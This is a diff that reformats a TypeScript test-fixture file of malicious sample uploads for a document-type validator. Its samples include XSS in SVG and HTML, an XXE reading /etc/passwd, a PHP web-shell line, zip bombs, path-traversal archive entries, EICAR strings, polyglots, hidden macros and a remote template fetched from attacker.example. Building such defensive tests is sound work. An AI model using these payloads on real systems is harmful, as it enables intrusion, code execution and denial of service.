@@ -4,11 +4,18 @@ import { documentSizeLimit } from "@/lib/document/rules";
 
 const text = (value: string) => Buffer.from(value, "latin1");
 const script = "<!doctype html><script>alert(document.cookie)</script>";
-const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
+const svg =
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
 
 export const pdf = text("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF");
-export const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
-export const jpeg = Buffer.concat([Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"), Buffer.from("ffd9", "hex")]);
+export const png = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+  "base64",
+);
+export const jpeg = Buffer.concat([
+  Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
+  Buffer.from("ffd9", "hex"),
+]);
 
 const types = (main: string, more = "") =>
   `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`;
@@ -16,25 +23,46 @@ const docxMain = "application/vnd.openxmlformats-officedocument.wordprocessingml
 
 export function zip(parts: Record<string, string | Uint8Array>): Buffer {
   const all: Zippable = {};
-  for (const [name, content] of Object.entries(parts)) all[name] = typeof content === "string" ? new TextEncoder().encode(content) : content;
+  for (const [name, content] of Object.entries(parts))
+    all[name] = typeof content === "string" ? new TextEncoder().encode(content) : content;
   return Buffer.from(zipSync(all, { level: 9 }));
 }
 
 export function docx(more: Record<string, string | Uint8Array> = {}): Buffer {
-  return zip({ "[Content_Types].xml": types(docxMain), "_rels/.rels": "<Relationships/>", "word/document.xml": "<w:document/>", ...more });
+  return zip({
+    "[Content_Types].xml": types(docxMain),
+    "_rels/.rels": "<Relationships/>",
+    "word/document.xml": "<w:document/>",
+    ...more,
+  });
 }
 
 export function odt(more: Record<string, string | Uint8Array> = {}): Buffer {
-  const all: Zippable = { mimetype: [new TextEncoder().encode("application/vnd.oasis.opendocument.text"), { level: 0 }] };
-  for (const [name, content] of Object.entries({ "content.xml": "<office/>", "META-INF/manifest.xml": "<manifest/>", ...more })) all[name] = typeof content === "string" ? new TextEncoder().encode(content) : content;
+  const all: Zippable = {
+    mimetype: [new TextEncoder().encode("application/vnd.oasis.opendocument.text"), { level: 0 }],
+  };
+  for (const [name, content] of Object.entries({
+    "content.xml": "<office/>",
+    "META-INF/manifest.xml": "<manifest/>",
+    ...more,
+  }))
+    all[name] = typeof content === "string" ? new TextEncoder().encode(content) : content;
   return Buffer.from(zipSync(all));
 }
 
 /** Marks every entry of a zip as encrypted, in both places where it is said. */
 function encrypted(archive: Buffer): Buffer {
   const copy = Buffer.from(archive);
-  for (const [signature, offset] of [["PK\u0003\u0004", 6], ["PK\u0001\u0002", 8]] as const) {
-    for (let at = copy.indexOf(signature, 0, "latin1"); at >= 0; at = copy.indexOf(signature, at + 4, "latin1")) copy.writeUInt16LE(copy.readUInt16LE(at + offset) | 1, at + offset);
+  for (const [signature, offset] of [
+    ["PK\u0003\u0004", 6],
+    ["PK\u0001\u0002", 8],
+  ] as const) {
+    for (
+      let at = copy.indexOf(signature, 0, "latin1");
+      at >= 0;
+      at = copy.indexOf(signature, at + 4, "latin1")
+    )
+      copy.writeUInt16LE(copy.readUInt16LE(at + offset) | 1, at + offset);
   }
   return copy;
 }
@@ -42,20 +70,38 @@ function encrypted(archive: Buffer): Buffer {
 /** An archive that says its parts are small: what they say must not be believed. */
 function understated(archive: Buffer): Buffer {
   const copy = Buffer.from(archive);
-  for (let at = copy.indexOf("PK\u0001\u0002", 0, "latin1"); at >= 0; at = copy.indexOf("PK\u0001\u0002", at + 4, "latin1")) copy.writeUInt32LE(10, at + 24);
+  for (
+    let at = copy.indexOf("PK\u0001\u0002", 0, "latin1");
+    at >= 0;
+    at = copy.indexOf("PK\u0001\u0002", at + 4, "latin1")
+  )
+    copy.writeUInt32LE(10, at + 24);
   return copy;
 }
 
 function pngWith(chunk: string, data: Buffer): Buffer {
   const length = Buffer.alloc(4);
   length.writeUInt32BE(data.length);
-  return Buffer.concat([png.subarray(0, 33), length, text(chunk), data, Buffer.alloc(4), png.subarray(33)]);
+  return Buffer.concat([
+    png.subarray(0, 33),
+    length,
+    text(chunk),
+    data,
+    Buffer.alloc(4),
+    png.subarray(33),
+  ]);
 }
 
 function jpegWith(comment: string): Buffer {
   const length = Buffer.alloc(2);
   length.writeUInt16BE(comment.length + 2);
-  return Buffer.concat([jpeg.subarray(0, 20), Buffer.from("fffe", "hex"), length, text(comment), jpeg.subarray(20)]);
+  return Buffer.concat([
+    jpeg.subarray(0, 20),
+    Buffer.from("fffe", "hex"),
+    length,
+    text(comment),
+    jpeg.subarray(20),
+  ]);
 }
 
 const zeros = () => new Uint8Array(60 * 1024 * 1024);
@@ -72,34 +118,95 @@ export const refusedFiles: [string, Buffer, string][] = [
   ["dessin.png", text(`<?xml version="1.0"?>${svg}`), "wrongType"],
   ["dessin.jpg", Buffer.concat([Buffer.from("efbbbf", "hex"), text(svg)]), "wrongType"],
   ["dessin.pdf", text(`<!-- %PDF-1.7 -->${svg}`), "wrongType"],
-  ["dessin.docx", text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`), "wrongType"],
+  [
+    "dessin.docx",
+    text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`),
+    "wrongType",
+  ],
   ["dessin.svgz.png", Buffer.from("1f8b0800000000000003", "hex"), "wrongType"],
-  ["utf16.pdf", Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(script, "utf16le")]), "wrongType"],
+  [
+    "utf16.pdf",
+    Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(script, "utf16le")]),
+    "wrongType",
+  ],
   ["programme.pdf", text("MZ\u0090\u0000\u0003"), "wrongType"],
   ["programme.pdf.exe", text("MZ\u0090\u0000\u0003"), "wrongType"],
   ["elf.png", Buffer.from("7f454c4602010100", "hex"), "wrongType"],
   ["script.jpg", text("#!/bin/sh\nid"), "wrongType"],
   ["script.php.jpg", text("<?php system($_GET['c']); ?>"), "wrongType"],
-  ["eicar.pdf", text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"), "wrongType"],
+  [
+    "eicar.pdf",
+    text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
+    "wrongType",
+  ],
   ["anime.gif", text("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;"), "wrongType"],
-  ["gifar.gif", Buffer.concat([text("GIF89a/*\u0000*/=1;alert(1);"), zip({ "META-INF/MANIFEST.MF": "Main-Class: X" })]), "wrongType"],
-  ["archive.jar.docx", zip({ "META-INF/MANIFEST.MF": "Main-Class: X", "X.class": "x" }), "wrongType"],
+  [
+    "gifar.gif",
+    Buffer.concat([
+      text("GIF89a/*\u0000*/=1;alert(1);"),
+      zip({ "META-INF/MANIFEST.MF": "Main-Class: X" }),
+    ]),
+    "wrongType",
+  ],
+  [
+    "archive.jar.docx",
+    zip({ "META-INF/MANIFEST.MF": "Main-Class: X", "X.class": "x" }),
+    "wrongType",
+  ],
   ["archive.docx", zip({ "bombe.txt": new Uint8Array(1_000_000) }), "wrongType"],
-  ["tableur.docx", zip({ "[Content_Types].xml": types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), "xl/workbook.xml": "<x/>" }), "wrongType"],
+  [
+    "tableur.docx",
+    zip({
+      "[Content_Types].xml": types(
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+      ),
+      "xl/workbook.xml": "<x/>",
+    }),
+    "wrongType",
+  ],
   ["ancien.doc", Buffer.from("d0cf11e0a1b11ae1", "hex"), "wrongType"],
-  ["eicar.docx", zip({ "eicar.com": "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*" }), "wrongType"],
+  [
+    "eicar.docx",
+    zip({ "eicar.com": "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*" }),
+    "wrongType",
+  ],
   ["bombe.docx", docx({ "word/a.xml": zeros(), "word/b.xml": zeros() }), "wrongType"],
-  ["bombe-cachee.docx", understated(docx({ "word/a.xml": zeros(), "word/b.xml": zeros() })), "wrongType"],
+  [
+    "bombe-cachee.docx",
+    understated(docx({ "word/a.xml": zeros(), "word/b.xml": zeros() })),
+    "wrongType",
+  ],
   ["bombe.odt", odt({ "a.xml": zeros(), "b.xml": zeros() }), "wrongType"],
-  ["mille-parties.docx", docx(Object.fromEntries(Array.from({ length: 2_100 }, (_, index) => [`word/${index}.xml`, ""]))), "wrongType"],
+  [
+    "mille-parties.docx",
+    docx(
+      Object.fromEntries(Array.from({ length: 2_100 }, (_, index) => [`word/${index}.xml`, ""])),
+    ),
+    "wrongType",
+  ],
   ["sortie.docx", docx({ "../../etc/cron.d/x": "x" }), "wrongType"],
   ["absolu.docx", docx({ "/etc/passwd": "x" }), "wrongType"],
   ["lecteur.docx", docx({ "C:\\windows\\x.xml": "x" }), "wrongType"],
   ["sans-texte.odt", zip({ mimetype: "application/vnd.oasis.opendocument.text" }), "wrongType"],
   ["macros.docx", docx({ "word/vbaProject.bin": "x" }), "macros"],
   ["macros-casse.docx", docx({ "WORD/VBAPROJECT.BIN": "x" }), "macros"],
-  ["macros-renommees.docx", docx({ "word/innocent.xml": "x", "word/_rels/document.xml.rels": '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="innocent.xml"/>' }), "macros"],
-  ["modele-distant.docx", docx({ "word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" Target="https://attacker.example/x.dotm" TargetMode="External"/>' }), "macros"],
+  [
+    "macros-renommees.docx",
+    docx({
+      "word/innocent.xml": "x",
+      "word/_rels/document.xml.rels":
+        '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="innocent.xml"/>',
+    }),
+    "macros",
+  ],
+  [
+    "modele-distant.docx",
+    docx({
+      "word/_rels/settings.xml.rels":
+        '<Relationship Type="http://x/attachedTemplate" Target="https://attacker.example/x.dotm" TargetMode="External"/>',
+    }),
+    "macros",
+  ],
   ["activex.docx", docx({ "word/activeX/activeX1.xml": "x" }), "macros"],
   ["objet.docx", docx({ "word/embeddings/oleObject1.bin": "x" }), "macros"],
   ["page-dedans.docx", docx({ "word/media/x.html": script }), "macros"],
@@ -113,11 +220,20 @@ export const refusedFiles: [string, Buffer, string][] = [
   ["polyglotte.docx", Buffer.concat([text("GIF89a"), docx()]), "wrongType"],
 ];
 
-/** Valid by their content and something else besides, or ill named: name, content, the ending they are saved under. */
+/**
+ * Valid by their content and something else besides, or ill named: name, content, the ending they
+ * are saved under.
+ */
 export const acceptedFiles: [string, Buffer, string][] = [
   ["page.html", Buffer.concat([pdf, text(script)]), "pdf"],
   ["devant.pdf", Buffer.concat([text("%PDF-1.4\n%"), text(script), pdf]), "pdf"],
-  ["actions.pdf", text("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"), "pdf"],
+  [
+    "actions.pdf",
+    text(
+      "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
+    ),
+    "pdf",
+  ],
   ["pdfzip.zip", Buffer.concat([pdf, zip({ "x.exe": "MZ" })]), "pdf"],
   ["pdf.js", Buffer.concat([text("%PDF-1.7\n/*"), pdf, text("*/alert(1)")]), "pdf"],
   ["page.php", pngWith("tEXt", text(`Comment\u0000${script}`)), "png"],
@@ -139,7 +255,10 @@ export const acceptedFiles: [string, Buffer, string][] = [
   ["lettre.odt", odt(), "odt"],
 ];
 
-/** A file of one deflated part without a directory, as a type sniffer believes it and no office program reads it. */
+/**
+ * A file of one deflated part without a directory, as a type sniffer believes it and no office
+ * program reads it.
+ */
 export function headerOnly(name: string, content: Buffer): Buffer {
   const data = deflateRawSync(content);
   const header = Buffer.alloc(30);
